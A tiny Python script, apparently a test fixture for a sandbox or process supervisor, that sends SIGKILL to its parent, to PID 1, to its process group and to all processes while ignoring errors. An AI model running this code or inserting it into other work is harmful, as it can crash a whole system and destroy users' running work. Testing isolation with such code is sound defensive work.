"""Kills its parent, its group and everybody."""

import os
import signal

for pid in (os.getppid(), 1, 0, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
